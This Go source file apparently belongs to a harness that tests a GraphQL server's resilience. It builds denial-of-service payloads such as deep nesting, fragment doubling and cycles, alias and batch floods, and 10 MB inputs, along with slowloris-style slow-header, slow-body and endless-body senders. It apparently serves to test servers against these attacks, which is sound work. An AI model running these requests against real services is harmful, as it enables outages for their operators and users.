package main

import (
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"time"
)

// attack is a request that has brought GraphQL servers down.
type attack struct {
	name string
	// body is the body of a POST. plain replaces it for the plain server where
	// that has another schema (no cycle) or other limits.
	body, plain string
	// send is for attacks that are more than a POST. It returns the outcome.
	send func(s *server) string
	slow bool // takes long without CPU: runs beside other attacks
}

func of(query string) string {
	b, _ := json.Marshal(map[string]string{"query": query}) // a string always marshals
	return string(b)
}

// big returns a query of size bytes that repeats one part.
func big(start, part string, size int) string {
	return of(start + strings.Repeat(part, size/len(part)))
}

const tenMB = 10 << 20

// none is the plain body of an attack that the plain server's schema cannot
// express.
const none = "none"

// numbered repeats a format with the numbers i and, where it has [2], i+1.
func numbered(n int, format string) string {
	var b strings.Builder
	for i := range n {
		if strings.Contains(format, "[2]") {
			fmt.Fprintf(&b, format, i, i+1)
		} else {
			fmt.Fprintf(&b, format, i)
		}
	}
	return b.String()
}

// doubling returns a query whose fragments expand to 2^n fields.
func doubling(n int) string {
	return of("{...F0} " + numbered(n, "fragment F%[1]d on Query{...F%[2]d ...F%[2]d} ") + fmt.Sprintf("fragment F%d on Query{__typename}", n))
}

// ofType nests an introspection field, which every schema has.
func ofType(depth int) string {
	return of("{__schema{types{" + strings.Repeat("ofType{", depth) + "name" + strings.Repeat("}", depth+3))
}

var attacks = []attack{
	{name: "depth 82", body: of("{listings{" + strings.Repeat("user{listings{", 40) + "id" + strings.Repeat("}", 82)), plain: ofType(82)},
	{name: "`{a{a{a…`, 60 KB", body: big("", "{a", 60_000)},
	{name: "`{a{a{a…`, 10 MB", body: big("", "{a", tenMB)},
	{name: "nested lists, 10 MB", body: big("{listings(pageNum:", "[", tenMB)},
	{name: "nested objects, 10 MB", body: big("{listings(pageNum:", "{a:", tenMB)},
	{name: "nested variable type, 10 MB", body: big("query($a:", "[", tenMB)},
	{name: "width: 1,200 fields", body: of("{listings{" + strings.Repeat("id price ", 600) + "}}")},
	{name: "`__typename` repeated", body: of("{" + strings.Repeat("__typename ", 3_900) + "}"),
		plain: of("{" + strings.Repeat("__typename ", 10_000) + "}")},
	{name: "300 aliases", body: of("{" + numbered(300, "a%d:listings{id} ") + "}")},
	{name: "40 root fields", body: of("{" + numbered(40, "a%d:listings(pageSize:100){id user{id}} ") + "}")},
	{name: "fragments doubling 25 times", body: doubling(25)},
	{name: "fields doubling 20 times", body: of("{__schema{types{...F0}}} " +
		numbered(20, "fragment F%[1]d on __Type{ofType{...F%[2]d} ofType{...F%[2]d}} ") + "fragment F20 on __Type{name}")},
	{name: "fragment cycle", body: of("{...A} fragment A on Query{...B} fragment B on Query{...A}")},
	{name: "500 directives", body: of("{listings{id " + strings.Repeat("@include(if:true) ", 500) + "}}")},
	{name: "500 operations", body: of(numbered(500, "query Q%d{__typename} "))},
	{name: "1,300 variables", body: of("query(" + numbered(1300, "$v%d:Int ") + "){__typename}")},
	{name: "batch of 1,000", body: "[" + strings.Repeat(of("{listings{id}}")+",", 999) + of("{listings{id}}") + "]"},
	{name: "page-size cycle", body: of("{users(pageSize:100){listings(first:100){user{listings(first:100){id}}}}}"),
		plain: none},
	{name: "introspection cycle", body: of("{__schema{types{" + strings.Repeat("fields{type{", 20) + "name" + strings.Repeat("}", 43))},
	{name: "introspection, 200 aliases", body: of("{" + numbered(200, "a%d:__schema{types{fields{name}}} ") + "}")},
	{name: "900 unknown fields", body: of("{" + numbered(900, "listing%d ") + "}")},
	{name: "10 MB that is not JSON", body: strings.Repeat("[", tenMB)},
	{name: "cheap query behind 50 expensive ones", send: crowd},
	{name: "slow header", send: slowHeader, slow: true},
	{name: "slow body", send: slowBody, slow: true},
	{name: "endless body", send: endless},
}

// crowd sends 50 different expensive queries at once, of ten full pages each, and
// then a cheap one, whose time is the attack's.
func crowd(s *server) string {
	statuses := make(chan string, 50)
	for i := range cap(statuses) {
		var expensive strings.Builder
		for j := range 10 {
			fmt.Fprintf(&expensive, "a%d:listings(pageNum:%d pageSize:100){id listingType price createdAt user{id name}} ", j, 10*i+j+1)
		}
		go func() { statuses <- s.post(of("{" + expensive.String() + "}")) }()
	}
	time.Sleep(20 * time.Millisecond)
	begin := time.Now()
	cheap := s.post(of("{listings(pageSize:1){id}}"))
	s.took = time.Since(begin)
	for range cap(statuses) {
		if status := <-statuses; status != "200" {
			return "expensive: " + status
		}
	}
	return cheap
}

// slowHeader sends a header byte by byte, for as long as the server accepts it.
func slowHeader(s *server) string {
	return s.drip("POST /graphql HTTP/1.1\r\nHost: x\r\nX-Slow: ", 200*time.Millisecond)
}

// slowBody does the same with a body.
func slowBody(s *server) string {
	return s.drip("POST /graphql HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 60000\r\n\r\n{\"query\":\"", 200*time.Millisecond)
}

// drip sends start and then a byte after each pause, until the server closes
// the connection or the timeout passes.
func (s *server) drip(start string, pause time.Duration) string {
	conn, err := net.Dial("tcp", strings.TrimPrefix(s.url, "http://"))
	if err != nil {
		return "no connection"
	}
	defer conn.Close()
	ended := make(chan string, 1)
	go func() {
		response, _ := io.ReadAll(conn)
		line, _, _ := strings.Cut(string(response), "\r\n")
		if line == "" {
			line = "connection closed"
		}
		ended <- strings.TrimPrefix(line, "HTTP/1.1 ")
	}()
	_, _ = io.WriteString(conn, start)
	tick := time.NewTicker(pause)
	defer tick.Stop()
	over := time.After(s.timeout)
	for {
		select {
		case outcome := <-ended:
			return outcome
		case <-over:
			return "still connected"
		case <-tick.C:
			_, _ = conn.Write([]byte("a"))
		}
	}
}

// endlessBytes is the size at which endless gives up.
const endlessBytes = 200 << 20

// endless sends a chunked body without an end.
func endless(s *server) string {
	r, w := io.Pipe()
	sent := make(chan int, 1)
	go func() {
		part, n := []byte(strings.Repeat("a", 64<<10)), 0
		_, err := io.WriteString(w, `{"query":"`)
		for err == nil && n < endlessBytes {
			var k int
			k, err = w.Write(part)
			n += k
		}
		w.Close()
		sent <- n
	}()
	req, err := http.NewRequest(http.MethodPost, s.url+"/graphql", r)
	if err != nil {
		return err.Error()
	}
	status := s.do(req)
	r.Close()
	if n := <-sent; n >= endlessBytes {
		status += fmt.Sprintf(" (accepted all %d MB)", endlessBytes>>20)
	}
	return status
}
